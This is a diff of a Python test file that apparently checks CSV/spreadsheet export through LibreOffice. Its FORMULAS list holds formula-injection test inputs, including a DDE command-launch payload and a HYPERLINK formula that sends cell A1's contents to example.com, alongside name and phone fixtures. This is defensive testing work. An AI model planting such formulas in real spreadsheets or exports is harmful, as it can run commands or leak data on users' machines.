@@ -23,7 +23,7 @@ pytestmark = pytest.mark.skipif(OFFICE is None, reason="LibreOffice is not here 
 
 MIDNIGHT = datetime(2026, 11, 24, 0, 0, 20)
 FORMULAS = ["=1+1", '=HYPERLINK("http://example.com/?"&A1,"click")', "=cmd|' /C calc'!A0", "@SUM(A1:A9)", "+1+1",
-            "-2+3", "\t=1+1", "\r=1+1", "=WEBSERVICE(A1)", "a\n=1+1", "x\r\n=1+1,=2+2", '"=1+1', '",=1+1,"']  # fmt: skip
+            "-2+3", "\t=1+1", "\r=1+1", "=WEBSERVICE(A1)", "a\n=1+1", "x\r\n=1,=2", '"=1+1', '",=1+1,"']  # fmt: skip
 SCRIPTS = ["山田 太郎", "محمد بن سلمان", "प्रिया शर्मा", "Łukasz Żółć", "👩‍💻 Dev Room 🚀", "🇳🇴 Oslo", "Cafe\u0301"]
 PHONES = ["+4722334455", "+47 22 33 44 55", "-"]
 # tokens of the CSV filter: separator (44 is a comma, 59 a semicolon), quote ("), character set (76 is UTF-8)
